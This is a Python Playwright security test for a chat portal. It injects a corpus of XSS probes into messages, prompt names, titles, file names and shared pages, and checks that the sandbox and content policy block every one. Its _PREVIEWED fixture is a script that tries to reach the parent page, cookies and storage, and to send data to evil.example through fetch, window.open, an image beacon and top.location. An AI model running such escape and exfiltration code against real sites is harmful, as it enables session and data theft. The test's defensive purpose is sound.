"""Nothing that a model, another person or a file says runs, loads or leads anywhere: the corpus of the portal's unit
tests, in a real browser under the service's real policy, everywhere that foreign words are shown."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.e2e.portal.conftest import QUICK, Portal, signed_in

pytestmark = pytest.mark.slow

_HERE = Path(__file__).parent
_PROBES: list[str] = [
    each["text"] for each in json.loads((_HERE.parents[2] / "web" / "tests" / "xss" / "corpus.json").read_text())
]
_FAULTS = (_HERE / "hostile.js").read_text()
# Ends what a probe has left open, so that the next one is read as it stands.
_BETWEEN = "\n\n--></style>\n\n"
_WHEN = "2026-01-02T03:04:05Z"

# What somebody lets run: it tries to get out by every door, and says in its own page what came of it.
_PREVIEWED = """
<p>shown</p>
<script>
const told = document.body.dataset;
told.ran = "yes";
try { parent.__hit = 1; parent.document.title = "taken"; } catch { told.parent = "closed"; }
try { localStorage.length; document.cookie; } catch { told.kept = "closed"; }
try { window.open("https://evil.example/leak") || (told.windows = "closed"); } catch { told.windows = "closed"; }
fetch("https://evil.example/leak").catch(() => (told.network = "closed"));
new Image().src = "https://evil.example/leak.png";
try { top.location = "https://evil.example/leak"; } catch { told.top = "closed"; }
</script>
"""


class Watched:
    """What a context's pages try to load, and what their policy refuses."""

    def __init__(self, context: BrowserContext, home: str) -> None:
        self.left: list[str] = []
        self.refused: list[str] = []
        self._home = home
        context.on("request", lambda request: self._seen(request.url))
        # An element that came into the page would be stopped by the policy: that would be told here.
        context.expose_function("__refused", lambda said: self.refused.append(said))
        context.add_init_script(
            "window === top && addEventListener('securitypolicyviolation', "
            "(event) => window.__refused(`${event.effectiveDirective} ${event.blockedURI}`))"
        )

    def _seen(self, url: str) -> None:
        if not url.startswith((f"{self._home}/", "data:", f"blob:{self._home}/")):
            self.left.append(url)


def faults(page: Page, roots: str = ".markdown") -> list[str]:
    """Of what is shown now. A script that ran has left a mark, or led away."""
    found: list[str] = page.evaluate(f"({_FAULTS})({json.dumps(roots)})")
    assert page.evaluate("window.__hit") is None
    assert page.evaluate("document.title") != "taken"
    return found


def exported() -> dict[str, Any]:
    """Potluck's own export with the probes in it: some as titles, and each as a question and an answer."""

    def thread(name: str, title: str, said: Sequence[tuple[str, str]]) -> dict[str, Any]:
        messages = [
            {"id": f"{name}-{at}", "parent": f"{name}-{at - 1}" if at else None, "role": role, "text": text}
            | {"created_at": _WHEN}
            for at, (role, text) in enumerate(said)
        ]
        return {"id": name, "title": title, "messages": messages, "created_at": _WHEN, "updated_at": _WHEN}

    everything = [(role, text) for text in _PROBES for role in ("user", "assistant")]
    titled = [thread(f"titled-{at}", text, [("user", text)]) for at, text in enumerate(_PROBES[:12])]
    threads = [thread("all-of-them", _PROBES[5], everything), *titled]
    return {"format": "potluck.conversations", "version": 1, "exported_at": _WHEN, "conversations": threads}


def dealt(probes: Sequence[str], hands: int) -> Iterator[str]:
    """Several to an answer. The last of all leaves a fence open, and so is last in its own."""
    size = -(-len(probes) // hands)
    for at in range(0, len(probes), size):
        yield _BETWEEN.join(probes[at : at + size])


def test_no_word_of_others_becomes_anything_but_words(browser: Browser, portal: Portal) -> None:
    assert len(_PROBES) >= 70
    with signed_in(browser, portal, viewport={"width": 1280, "height": 800}) as context:
        watched = Watched(context, portal.url)
        page = context.new_page()
        page.set_default_timeout(20_000)
        own = {"origin": portal.url}
        report = context.request.post("/api/v1/conversations/import", data=exported(), headers=own).json()
        assert report["skipped"] == 0, report
        for at, text in enumerate(_PROBES[:10]):
            prompt = {"name": f"{at} {text}"[:100], "text": text}
            assert context.request.post("/api/v1/prompts", data=prompt, headers=own).ok

        # 1. An answer as it comes: in a chat whose prompts, titles and files are hostile, too.
        page.goto("/chat")
        page.get_by_role("button", name="Model:").click()
        page.get_by_role("option", name=QUICK).click()
        field = page.get_by_role("textbox", name="Message", exact=True)
        field.fill("/")
        expect(page.get_by_role("listbox", name="Prompts").get_by_role("option")).to_have_count(9)
        assert faults(page, "[role=listbox]") == []
        names = [f"{text[:90]}.txt" for text in _PROBES[5:9]]
        page.locator("input[type=file]").first.set_input_files(
            [
                {"name": name, "mimeType": "text/plain", "buffer": text.encode()}
                for name, text in zip(names, _PROBES, strict=False)
            ]
        )
        expect(page.get_by_role("button", name="Remove ")).to_have_count(len(names))
        for answers, text in enumerate(dealt(_PROBES, 4), start=1):
            field.fill(f"say: {text}")
            page.keyboard.press("Enter")
            expect(page.locator(".turn .markdown")).to_have_count(answers)
            assert faults(page) == []
            expect(page.locator("article[aria-busy=true]")).to_have_count(0)
        assert faults(page) == []
        # What was written is there to be read.
        expect(page.locator(".turn .markdown").first).to_contain_text("<script>window.__hit=1</script>")
        expect(page.get_by_role("navigation").get_by_text(_PROBES[0]).first).to_be_visible()

        # 2. Each by itself, kept, as others see it by a link.
        shared = context.request.post("/api/v1/conversations/all-of-them/shares", data={}, headers=own)
        page.goto(shared.json()["path"])
        expect(page.locator(".markdown")).to_have_count(len(_PROBES))
        assert faults(page) == []
        assert (watched.left, watched.refused) == ([], [])
        # All of this would have been found.
        page.evaluate(
            "document.querySelector('.markdown').append(...['font', 'a', 'form'].map((name) => "
            "Object.assign(document.createElement(name), { href: 'javascript:x', action: 'x', id: 'x' })))"
        )
        assert {"element font", "id x", "action of form", "link javascript:x"} <= set(faults(page))


def test_what_somebody_lets_run_reaches_nothing_and_nobody(browser: Browser, portal: Portal) -> None:
    # The policy's refusals are told in the console, so nobody looks at that here.
    context = browser.new_context(base_url=portal.url, service_workers="block")
    signed = context.request.post("/api/v1/sessions", headers={"authorization": f"Bearer {portal.service.key}"})
    assert signed.ok
    left: list[str] = []
    context.route(
        lambda url: not url.startswith(portal.url), lambda route: (left.append(route.request.url), route.abort())
    )
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.goto("/chat")
    runs = [text for text in _PROBES if text.startswith(("```html", "```mermaid"))]
    field = page.get_by_role("textbox", name="Message", exact=True)
    field.fill("say: " + _BETWEEN.join([f"```html{_PREVIEWED}```", *runs]))
    page.keyboard.press("Enter")
    expect(page.locator("article[aria-busy=true]")).to_have_count(0)
    for name in ("Preview", "Diagram"):
        for button in page.get_by_role("button", name=name, exact=True).all():
            button.click()
    inside = page.frame_locator("iframe").nth(0).locator("body")
    for door in ("parent", "kept", "windows", "network", "top"):
        expect(inside).to_have_attribute(f"data-{door}", "closed")
    expect(page.frame_locator("iframe").last.locator("svg")).to_be_visible()
    assert page.evaluate("window.__hit") is None
    assert page.url.startswith(portal.url)
    assert left == []
    assert len(context.pages) == 1
    context.close()
